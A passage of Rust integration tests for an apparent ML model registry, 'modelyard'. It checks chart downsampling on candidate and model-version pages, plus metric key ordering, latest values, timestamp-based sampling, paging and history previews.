    let version_id = version.json()["id"].as_u64().expect("version id");
    let model_id = version.json()["model_id"].as_u64().expect("model id");
    let anonymous = Api::anonymous(&server);
    for page_path in [
        format!("/root/big/-/ml/candidates/{iid}"),
        format!("/root/big/-/ml/models/{model_id}/versions/{version_id}"),
    ] {
        let page = anonymous.get(&page_path);
        assert_eq!(page.status, 200, "{page_path}");
        assert!(
            page.body.len() < 512 * 1024,
            "{page_path}: {} bytes",
            page.body.len()
        );
        let html = page.text();
        let mut vertices = chart_vertices(&html);
        vertices.sort();
        assert_eq!(vertices.len(), 2, "{page_path}: one chart per metric");
        assert_eq!(
            vertices[0], 3,
            "{page_path}: short histories are drawn whole"
        );
        assert!(
            (100..=1001).contains(&vertices[1]),
            "{page_path}: {} vertices for 300k points",
            vertices[1]
        );
        assert!(
            html.contains(&format!("at step {}", POINTS - 1)),
            "{page_path}: the last point is drawn"
        );
    }
}

/// The seeking reads on the domain, without a server: names that prefix each other, negative
/// steps, and a history whose steps are all 0 (MLflow's default) sampled by timestamp.
#[tokio::test]
async fn metric_keys_latest_values_and_sampling_read_by_seeking() {
    use modelyard::domain::access::{Action, Caller};
    use modelyard::domain::candidates::{LogBatch, NewCandidate};
    use modelyard::domain::ml_records::MetricPoint;
    use modelyard::domain::paging::PageRequest;
    use modelyard::domain::projects::NewProject;
    use modelyard::domain::records::Scope;
    use modelyard::domain::Limits;

    let dir = tempfile::tempdir().expect("temp dir");
    let registry =
        modelyard::server::open_registry(dir.path(), Limits::default(), 8).expect("open");
    registry
        .bootstrap_root(Some("root-token-for-sampling"))
        .await
        .expect("root");
    let root = Caller::from_user(registry.user_by_name("root").expect("root"), &[Scope::Api]);
    let project = registry
        .create_project(
            &root,
            NewProject {
                name: Some("p".into()),
                ..Default::default()
            },
        )
        .await
        .expect("project");
    let access = registry
        .project_for_action(&root, &project.id.to_string(), Action::WriteRegistry)
        .expect("access");
    let experiment = registry
        .create_experiment(&root, &access, "e", &[])
        .await
        .expect("experiment");
    let run = registry
        .create_candidate(&root, &access, experiment.id, NewCandidate::default())
        .await
        .expect("run");
    let point = |key: &str, step: i64, timestamp: i64, value: f64| MetricPoint {
        key: key.into(),
        value,
        timestamp,
        step,
    };
    let mut metrics = vec![
        point("a", -5, 1, 1.0),
        point("a", 3, 1, 2.0),
        point("a.b", 0, 1, 3.0),
        point("ab", 7, 1, 4.0),
    ];
    metrics.extend((0..900).map(|t| point("flat", 0, 10_000 + t, t as f64)));
    for chunk in metrics.chunks(1000) {
        registry
            .log_batch(
                &root,
                &access,
                run.id,
                LogBatch {
                    metrics: chunk.to_vec(),
                    ..LogBatch::default()
                },
            )
            .await
            .expect("log");
    }
    let keys: Vec<String> = registry
        .latest_metrics(run.id)
        .expect("keys")
        .into_iter()
        .map(|p| p.key)
        .collect();
    assert_eq!(keys, vec!["a", "a.b", "ab", "flat"]);
    let latest: Vec<(String, i64, i64)> = registry
        .latest_metrics(run.id)
        .expect("latest")
        .into_iter()
        .map(|p| (p.key, p.step, p.timestamp))
        .collect();
    assert_eq!(
        latest,
        vec![
            ("a".into(), 3, 1),
            ("a.b".into(), 0, 1),
            ("ab".into(), 7, 1),
            ("flat".into(), 0, 10_899)
        ]
    );
    let series = registry.metric_series(run.id, 50).expect("series");
    let flat: Vec<i64> = series
        .iter()
        .filter(|p| p.key == "flat")
        .map(|p| p.timestamp)
        .collect();
    assert!((40..=51).contains(&flat.len()), "{} points", flat.len());
    assert_eq!(flat.first(), Some(&10_000));
    assert_eq!(flat.last(), Some(&10_899));
    assert!(flat.windows(2).all(|w| w[0] < w[1]), "in order, no repeats");
    assert_eq!(
        series.iter().filter(|p| p.key == "a").count(),
        2,
        "short ones whole"
    );
    let page = registry
        .metric_history_page(run.id, "flat", PageRequest::up_to(Some(2), Some(500), 1000))
        .expect("page");
    assert_eq!((page.total, page.items.len()), (900, 400));
    assert_eq!(page.items[0].timestamp, 10_500);
    let latest = registry.latest_metrics(run.id).expect("latest");
    let mut previews = registry
        .history_previews(&[(run.id, &latest)], 100)
        .expect("preview");
    let preview = previews.pop().expect("one preview");
    assert_eq!(preview.points.len(), 2 + 1 + 1 + 100);
    assert_eq!(preview.truncated, vec!["flat"]);
}
